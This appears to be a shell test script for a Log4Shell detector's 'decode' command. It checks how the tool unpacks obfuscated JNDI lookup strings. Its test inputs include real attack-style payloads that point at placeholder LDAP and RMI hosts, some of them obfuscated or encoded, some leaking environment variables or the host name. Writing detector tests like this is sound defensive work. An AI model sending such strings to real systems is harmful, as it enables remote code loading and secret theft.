#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# decode.sh PROGRAM SOURCE-TREE: the command decode, as an analyst meets it.
# shellcheck disable=SC2016 # nothing in single quotes is for the shell
set -uo pipefail
. "$(dirname "$0")/checks.sh"
begin "$@"
p='jndi-sensor: error: decode: '

decodes() { # decodes STATUS NAME 'EXPECTED OUTPUT' ARGUMENTS...
    local code=$1 name=$2 expected=$3
    shift 3
    run decode "$@"
    if [ "$status" -eq "$code" ] && [ "$(cat out)" = "$expected" ] && [ ! -s err ]; then verdict yes "$name"
    else verdict no "$name" "status $status, expected $code; was:
$(cat out err)
expected:
$expected"; fi
}

# --- help and usage ---
run decode --help
check "decode --help: status 0, on stdout" [ $status -eq 0 -a -s out -a ! -s err ]
check "decode --help: names its options" says '--base64'
cp out help
run help decode
check "help decode: the same" cmp out help
run --help
check "--help: names the command" grep -q '^  decode STRING' out
fails 2 "${p}nothing to decode: *" "nothing to decode" decode
fails 2 "${p}unknown option '--jsom', did you mean '--json'[?]" "an unknown option" decode --jsom x
fails 2 "${p}--hex and --base64 at once: *" "two kinds of input" decode --hex --base64 24
fails 2 "jndi-sensor: error: there is no help for 'decod': *" "help for what does not exist" help decod
"$sensor" decode x >/dev/full 2>err
check "a full device: status 2" [ $? -eq 2 ]
check "a full device: and why" says 'standard output: No space left on device' err
"$sensor" decode '${jndi:rmi://h/a}' 2>err | true
check "nobody reads: a quiet end" [ "${PIPESTATUS[0]}" -eq 0 -a ! -s err ]

# --- steps ---
decodes 0 "the example" \
    'input      ${${env:X:-j}n${lower:D}i:ldap%3a//10.0.0.5:1389/a}
url        ${${env:X:-j}n${lower:D}i:ldap://10.0.0.5:1389/a}
default    ${jn${lower:D}i:ldap://10.0.0.5:1389/a}
lower      ${jndi:ldap://10.0.0.5:1389/a}
result     JNDI lookup  scheme=ldap host=10.0.0.5 port=1389 path=a  depth=2  techniques=nested,default-value,lower,env,url  versions=2.13.0-2.14.1' \
    '${${env:X:-j}n${lower:D}i:ldap%3a//10.0.0.5:1389/a}'
decodes 0 "no steps" \
    'input      ${jndi:ldap://h/a}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=1' '${jndi:ldap://h/a}'
decodes 0 "encodings, one on another" \
    'input      %2524%257Bjndi:rmi://h/a%257d
url        %24%7Bjndi:rmi://h/a%7d
url        ${jndi:rmi://h/a}
result     JNDI lookup  scheme=rmi host=h port=1099 path=a  depth=1  techniques=url' '%2524%257Bjndi:rmi://h/a%257d'
decodes 0 "a long word moves the column" \
    'input        &#36;{jndi:dns://h/a}
html-entity  ${jndi:dns://h/a}
result       JNDI lookup  scheme=dns host=h port=53 path=a  depth=1  techniques=html-entity' '&#36;{jndi:dns://h/a}'
decodes 0 "a run of one word is one line" \
    'input      ${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://h/a}
lower      ${jndi:ldap://h/a}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=2  techniques=nested,lower  versions=2.13.0-2.14.1' \
    '${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://h/a}'
decodes 0 "leaks, and what no JDK would do" \
    'input      ${jndi:LDAP://h/${env:SECRET}}
result     JNDI lookup  scheme=LDAP host=h port=389 path=${env:SECRET}  depth=2  techniques=nested  leaks=env:SECRET  effective=no (the scheme is case-sensitive: no provider has this spelling)' \
    '${jndi:LDAP://h/${env:SECRET}}'
decodes 0 "a result per name" \
    'input      ${jndi:ldap://h/a}${jndi:rmi://h/b}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=1
result     JNDI lookup  scheme=rmi host=h port=1099 path=b  depth=1' '${jndi:ldap://h/a}${jndi:rmi://h/b}'
decodes 1 "nothing to be found" 'input      hello
result     no JNDI lookup' hello
decodes 1 "an evaluation that leads nowhere" \
    'input      a ${lower:X} ${::-b} c
lower      a x ${::-b} c
default    a x b c
result     no JNDI lookup' 'a ${lower:X} ${::-b} c'
decodes 1 "an empty text" 'input      
result     no JNDI lookup' ''
decodes 1 "a text that begins with a dash" 'input      -D${a}
result     no JNDI lookup' -- '-D${a}'
decodes 0 "several texts" \
    'input      a
result     no JNDI lookup
input      ${jndi:ldap://h/a}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=1' a '${jndi:ldap://h/a}'

# --- what a terminal must not obey ---
decodes 0 "controls, invalid UTF-8, turned text" \
    'input      \x1b[2Ja\x0d\xff\xe2\x80\xae é ${jndi:ldap://h/\x1b}
result     JNDI lookup  scheme=ldap host=h port=389 path=\x1b  depth=1' $'\e[2Ja\r\xff\u202e é ${jndi:ldap://h/\e}'

# --- input ---
decodes 0 "--hex" 'input      ${jndi:ldap://h/a}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=1' --hex '24 7b 6a:6e,64 0x69 \x3a 6c6461703a2f2f682f617d'
decodes 0 "--base64" 'input      ${jndi:ldap://h/a}
result     JNDI lookup  scheme=ldap host=h port=389 path=a  depth=1' --base64 'JHtqbmRp OmxkYXA6Ly9oL2F9'
run decode --hex 'zz' '24'
expect 2 "${p}character 1 is no hexadecimal byte: *" "--hex: what is none"
check "--hex: the other text is read all the same" says 'input      $'
fails 2 "${p}character 4 is not of the base64 alphabets" "--base64: what is none" decode --base64 'JHt!'
printf '%s\r\n' '${jndi:ldap://h/a}' '' 'b' >in
printf '${jndi:rmi://h/c}' >>in
"$sensor" decode - <in >out 2>err
check "-: status 0" [ $? -eq 0 ]
check "-: a text per line" [ "$(grep -c '^input ' out)" -eq 4 ]
check "-: the last line needs no newline" says 'scheme=rmi'
check "-: line ends are not of the text" no says 'x0d'
head -c 100000 /dev/zero | tr '\0' a >in
printf '\n${jndi:ldap://h/a}\n' >>in
"$sensor" decode - <in >out 2>err
check "-: a line that is too long: status 2" [ $? -eq 2 ]
check "-: a line that is too long: which" says 'decode: line 1: longer than 64 KB' err
check "-: the line after it is read" says 'host=h'
{ echo '${jndi:ldap://first/a}'; sleep 3; } | "$sensor" decode - >out 2>err &
sleep 2
check "-: an answer comes before the next question" says 'host=first'
wait

# --- JSON ---
run decode --json '%24{jndi:ldap://h/${hostName}}' nothing $'\e\xff'
expect 0 '' "--json: status 0"
check "--json: an object per input" [ "$(grep -c '^{"input":.*}$' out)" -eq 3 ]
check "--json: steps" says '"steps":[{"step":"url","text":"${jndi:ldap://h/${hostName}}"}]'
check "--json: the keys of alert.context.jndi" says '"lookups":[{"stage":"lookup","lookup":"ldap://h/${hostName}","scheme":"ldap","host":"h","port":389,"path":"${hostName}",'
check "--json: leaks" says '"exfil":["hostName"]'
check "--json: nothing found" says '{"input":"nothing","steps":[],"lookups":[]}'
check "--json: any bytes" says '{"input":"\u001b\\xFF","steps":[],"lookups":[]}'
run decode --json nothing
check "--json: status 1" [ $status -eq 1 ]

# --- what nobody waits for ---
nested=$(printf '${%.0s' $(seq 20000))
timeout 60 "$sensor" decode "${nested}jndi:x" "$(printf '${a:-%.0s' $(seq 12000))jndi$(printf '}%.0s' $(seq 12000))" >out 2>err
check "hostile texts end" [ $? -le 1 ]
check "a budget that was spent is told" says 'no JNDI lookup  (too expensive to work out to its end: there may be one)'
run decode --json "$(printf '${a:-%.0s' $(seq 100))jndi$(printf '}%.0s' $(seq 100))"
check "--json: so it is" says '"lookups":[],"budget_spent":true}'

finish_checks
